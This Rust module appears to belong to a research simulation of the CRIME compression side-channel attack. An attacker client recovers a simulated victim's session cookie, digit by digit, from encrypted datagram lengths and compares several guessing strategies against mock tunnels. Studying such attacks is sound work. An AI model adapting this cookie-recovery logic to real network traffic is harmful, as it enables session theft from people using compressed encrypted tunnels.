//! The client: what it sends, and what it makes of the lengths that it sees.

use serde::Serialize;
use strait_clock::Random;

use super::victim::{CrimeVictim, GuessFiller, GuessKind, GuessLetters};
use super::{CrimePlace, CrimeTally, DIGITS};

/// What the network puts around a datagram, IPv4 and UDP: an observer sees it for each.
const AROUND: usize = 28;
/// The longest filler that is looked through for a step: with it a guess takes more than a datagram, and more than the least that becomes
/// a block of constant size.
const FILLER_MAX: usize = 4_096;
/// Letters that the search for a step begins with: two steps of ESP's alignment.
const REACH: usize = 8;
/// Fillers after which no step tells digits apart.
const FILLERS: usize = 3;

/// A tunnel that carries the victim's packets and the client's, as an observer of its wire sees it.
pub trait LengthOracle {
    /// Why it does not carry them.
    type Error;

    /// Sends whole IP packets one right behind the other, and gives the lengths of the datagrams that carried them: UDP payloads, in
    /// bytes, in the order in which they left.
    ///
    /// # Errors
    /// When the tunnel cannot carry them.
    fn carry(&mut self, packets: &[Vec<u8>]) -> Result<Vec<usize>, Self::Error>;
}

/// How the client goes about a digit.
#[derive(Clone, Copy, Debug, PartialEq, Eq, Serialize)]
#[serde(rename_all = "kebab-case")]
pub enum CrimePlay {
    /// As Rizzo and Duong: all sixteen digits, two tries each, with so many fillers of rising length. One filler leaves the alignment
    /// of ESP to chance; sixteen go through all of it.
    TwoTries {
        /// Fillers, each a letter longer than the one before.
        fillers: usize,
    },
    /// Looks first for the filler with which a wrong guess takes just one step more on the wire, so that a right one does not; the
    /// first digit that takes less is it.
    FirstAtStep {
        /// How often it has to take less.
        sure: u64,
        /// What fillers are of.
        letters: GuessLetters,
    },
    /// At such a step, each digit some times; then the better half of them again, until one is left.
    HalvesAtStep {
        /// How often each digit is tried before half of them go.
        tries: u64,
        /// What fillers are of.
        letters: GuessLetters,
    },
}

impl CrimePlay {
    /// Every one that a grid tries.
    pub const ALL: [CrimePlay; 8] = [
        CrimePlay::TwoTries { fillers: 1 },
        CrimePlay::TwoTries { fillers: 16 },
        CrimePlay::FirstAtStep { sure: 1, letters: GuessLetters::Few },
        CrimePlay::FirstAtStep { sure: 1, letters: GuessLetters::All },
        CrimePlay::FirstAtStep { sure: 3, letters: GuessLetters::All },
        CrimePlay::FirstAtStep { sure: 2, letters: GuessLetters::Fresh },
        CrimePlay::HalvesAtStep { tries: 4, letters: GuessLetters::Few },
        CrimePlay::PATIENT,
    ];
    /// The one that errs least where lengths tell little.
    pub const PATIENT: CrimePlay = CrimePlay::HalvesAtStep { tries: 4, letters: GuessLetters::All };

    /// In a few words.
    #[must_use]
    pub fn name(self) -> String {
        let of = |letters| match letters {
            GuessLetters::Few => "",
            GuessLetters::All => ", all bytes",
            GuessLetters::Fresh => ", all bytes anew",
        };
        match self {
            CrimePlay::TwoTries { fillers: 1 } => "two tries".to_owned(),
            CrimePlay::TwoTries { fillers } => format!("two tries, {fillers} fillers"),
            CrimePlay::FirstAtStep { sure: 1, letters } => format!("first at the step{}", of(letters)),
            CrimePlay::FirstAtStep { sure, letters } => {
                format!("first at the step, {sure} times{}", of(letters))
            }
            CrimePlay::HalvesAtStep { tries, letters } => {
                format!("halves at the step, {tries} each{}", of(letters))
            }
        }
    }
}

/// A victim, the tunnel that it uses, and what the client has sent there.
#[derive(Debug)]
pub struct CrimeScene<'a, O> {
    victim: CrimeVictim,
    oracle: &'a mut O,
    packets: u64,
    guesses: u64,
}

impl<'a, O: LengthOracle> CrimeScene<'a, O> {
    /// A victim behind a tunnel.
    #[must_use]
    pub const fn new(victim: CrimeVictim, oracle: &'a mut O) -> CrimeScene<'a, O> {
        CrimeScene { victim, oracle, packets: 0, guesses: 0 }
    }

    /// Bytes on the wire when the client makes this guess.
    fn seen(&mut self, known: &str, kind: GuessKind, filler: GuessFiller) -> Result<usize, O::Error> {
        self.guesses += 1;
        let anew = if filler.letters == GuessLetters::Fresh { self.guesses << 32 } else { 0 };
        let filler = GuessFiller { seed: filler.seed ^ anew, ..filler };
        let (packets, own) = self.victim.packets(known, kind, filler);
        self.packets += own;
        let lengths = self.oracle.carry(&packets)?;
        Ok(lengths.iter().map(|length| length + AROUND).sum())
    }
}

/// Who guesses. It knows how requests look and which digits it was told; it has no cookie.
#[derive(Clone, Debug)]
pub struct CrimeClient {
    play: CrimePlay,
    random: Random,
    /// A filler that told digits apart the last time: the next digit changes little.
    proven: Option<GuessFiller>,
    /// Letters within which the last step was.
    reach: usize,
}

impl CrimeClient {
    /// A client that has seen nothing. Its fillers, and its choice where all digits look alike, follow from `seed`.
    #[must_use]
    pub const fn new(play: CrimePlay, seed: u64) -> CrimeClient {
        CrimeClient { play, random: Random::new(seed), proven: None, reach: REACH }
    }

    /// Guesses cookies of `digits` digits, one after the other, until it has sent `packets`; each cookie follows from `seed` and its
    /// number.
    ///
    /// # Errors
    /// As of the oracle.
    pub fn run<O: LengthOracle>(
        &mut self,
        oracle: &mut O,
        place: CrimePlace,
        digits: usize,
        packets: u64,
        seed: u64,
    ) -> Result<CrimeTally, O::Error> {
        let mut tally = CrimeTally::default();
        while tally.packets < packets {
            tally.cookies += 1;
            let victim = CrimeVictim::new(digits, place, seed ^ tally.cookies << 32);
            let scene = &mut CrimeScene::new(victim, oracle);
            for place in 0..digits {
                if tally.packets + scene.packets >= packets {
                    break;
                }
                let cookie = scene.victim.cookie().to_owned();
                let (known, rest) = cookie.split_at(place);
                let decided = self.digit(scene, known)?;
                tally.digits += 1;
                tally.right += u64::from(rest.as_bytes().first() == Some(&decided));
            }
            tally.packets += scene.packets;
        }
        Ok(tally)
    }

    /// The digit behind those that are known.
    fn digit<O: LengthOracle>(&mut self, scene: &mut CrimeScene<'_, O>, known: &str) -> Result<u8, O::Error> {
        match self.play {
            CrimePlay::TwoTries { fillers } => self.two_tries(scene, known, fillers),
            CrimePlay::FirstAtStep { sure, letters } => self.first(scene, known, sure, letters),
            CrimePlay::HalvesAtStep { tries, letters } => self.halves(scene, known, tries, letters),
        }
    }

    /// The digit whose first try takes least beside its second.
    fn two_tries<O: LengthOracle>(
        &mut self,
        scene: &mut CrimeScene<'_, O>,
        known: &str,
        fillers: usize,
    ) -> Result<u8, O::Error> {
        let mut gains = [0; 16];
        let seed = self.random.next_u64();
        for len in 0..fillers {
            let filler = GuessFiller { seed, len, of: fillers, letters: GuessLetters::Few };
            for (digit, gain) in DIGITS.iter().zip(&mut gains) {
                *gain += scene.seen(known, GuessKind::Apart(*digit), filler)? as i64;
                *gain -= scene.seen(known, GuessKind::Next(*digit), filler)? as i64;
            }
        }
        // The most bytes saved come last.
        self.shuffled_by(|digit| gains[digit]).last().map_or(Ok(DIGITS[0]), |digit| Ok(DIGITS[*digit]))
    }

    /// The first digit that takes less than a wrong guess.
    fn first<O: LengthOracle>(
        &mut self,
        scene: &mut CrimeScene<'_, O>,
        known: &str,
        sure: u64,
        letters: GuessLetters,
    ) -> Result<u8, O::Error> {
        let digits = self.shuffled_by(|_| 0);
        for _ in 0..FILLERS {
            let filler = self.filler(scene, known, letters)?;
            let wrong = scene.seen(known, GuessKind::Apart(DIGITS[0]), filler)?;
            for digit in &digits {
                let mut times = 0;
                while times < sure && scene.seen(known, GuessKind::Next(DIGITS[*digit]), filler)? < wrong {
                    times += 1;
                }
                if times == sure {
                    self.proven = Some(filler);
                    return Ok(DIGITS[*digit]);
                }
            }
        }
        Ok(DIGITS[digits[0]])
    }

    /// The digit that is left when those that took more have gone.
    fn halves<O: LengthOracle>(
        &mut self,
        scene: &mut CrimeScene<'_, O>,
        known: &str,
        tries: u64,
        letters: GuessLetters,
    ) -> Result<u8, O::Error> {
        let (mut digits, mut taken) = (self.shuffled_by(|_| 0), [0; 16]);
        let mut filler = self.filler(scene, known, letters)?;
        while digits.len() > 1 {
            for _ in 0..tries {
                for digit in &digits {
                    taken[*digit] += scene.seen(known, GuessKind::Next(DIGITS[*digit]), filler)?;
                }
            }
            let (least, most) =
                (digits.iter().map(|it| taken[*it]).min(), digits.iter().map(|it| taken[*it]).max());
            if least == most {
                filler = self.step(scene, known, letters)?;
            } else {
                self.proven = Some(filler);
            }
            // Stable, and in any order before.
            digits.sort_by_key(|digit| taken[*digit]);
            digits.truncate(digits.len() / 2);
        }
        Ok(DIGITS[digits[0]])
    }

    /// A filler at a step: what told digits apart the last time, or a new one.
    fn filler<O: LengthOracle>(
        &mut self,
        scene: &mut CrimeScene<'_, O>,
        known: &str,
        letters: GuessLetters,
    ) -> Result<GuessFiller, O::Error> {
        self.proven.take().map_or_else(|| self.step(scene, known, letters), Ok)
    }

    /// The filler of some letters with the fewest that do not shrink, and with which a wrong guess takes more on the wire than with none of
    /// them; any, where there is no such.
    fn step<O: LengthOracle>(
        &mut self,
        scene: &mut CrimeScene<'_, O>,
        known: &str,
        letters: GuessLetters,
    ) -> Result<GuessFiller, O::Error> {
        let seed = self.random.next_u64();
        let mut wrong =
            |len, of| scene.seen(known, GuessKind::Apart(DIGITS[0]), GuessFiller { seed, len, of, letters });
        let mut of = self.reach;
        let least = loop {
            let least = wrong(0, of)?;
            if wrong(of, of)? > least {
                break least;
            }
            of += of / 2;
            if of > FILLER_MAX {
                self.reach = REACH;
                return Ok(GuessFiller { seed, len: REACH / 2, of: REACH, letters });
            }
        };
        self.reach = of;
        let (mut low, mut high) = (0, of);
        while high - low > 1 {
            let middle = usize::midpoint(low, high);
            if wrong(middle, of)? > least {
                high = middle;
            } else {
                low = middle;
            }
        }
        Ok(GuessFiller { seed, len: high, of, letters })
    }

    /// All digits, those with less first, and in any order where they have as much (Fisher and Yates).
    fn shuffled_by<T: Ord>(&mut self, key: impl Fn(usize) -> T) -> Vec<usize> {
        let mut digits: Vec<usize> = (0..DIGITS.len()).collect();
        for last in (1..digits.len()).rev() {
            digits.swap(last, self.random.below(last as u64 + 1) as usize);
        }
        digits.sort_by_key(|digit| key(*digit));
        digits
    }
}

#[cfg(test)]
mod tests {
    use std::convert::Infallible;

    use super::*;

    /// A tunnel whose datagrams say how much of the cookie the guess has, to `align` bytes; or nothing of it.
    struct Matches {
        align: usize,
        leaks: bool,
    }

    impl LengthOracle for Matches {
        type Error = Infallible;

        fn carry(&mut self, packets: &[Vec<u8>]) -> Result<Vec<usize>, Infallible> {
            let all = packets.concat();
            let text = String::from_utf8_lossy(&all).into_owned();
            let texts: Vec<&str> = text.split("session=").skip(1).collect();
            let same = texts[0].bytes().zip(texts[1].bytes()).take_while(|(a, b)| a == b).count();
            let run = all.iter().filter(|byte| **byte == b'n').count();
            let length = all.len() - if self.leaks { run + same * 2 } else { 0 };
            Ok(vec![length.next_multiple_of(self.align)])
        }
    }

    fn tally(play: CrimePlay, oracle: &mut Matches) -> CrimeTally {
        CrimeClient::new(play, 1).run(oracle, CrimePlace::SameFlow, 20, 2_000, 7).unwrap()
    }

    #[test]
    fn a_tunnel_that_tells_the_length_of_a_match_is_read_at_any_step() {
        for align in [1, 4, 16, 256, 1_400] {
            for play in &CrimePlay::ALL[2..5] {
                let tally = tally(*play, &mut Matches { align, leaks: true });
                assert!(
                    tally.right * 2 > tally.digits && tally.bits() > 30.0,
                    "{align}, {play:?}: {tally:?}"
                );
            }
        }
        // Without a search for the step, alignment hides what is shorter; all of it brings that to light.
        let aligned = tally(CrimePlay::ALL[1], &mut Matches { align: 4, leaks: true });
        assert_eq!(aligned.right, aligned.digits);
    }

    #[test]
    fn a_tunnel_that_tells_nothing_gives_what_chance_gives() {
        for play in CrimePlay::ALL {
            let mut oracle = Matches { align: 4, leaks: false };
            let tally =
                CrimeClient::new(play, 1).run(&mut oracle, CrimePlace::SameFlow, 20, 20_000, 7).unwrap();
            assert!(!tally.is_above_chance(), "{play:?}: {tally:?}");
            assert!(tally.packets >= 20_000 && tally.packets < 21_000, "{play:?}: {tally:?}");
        }
    }
}
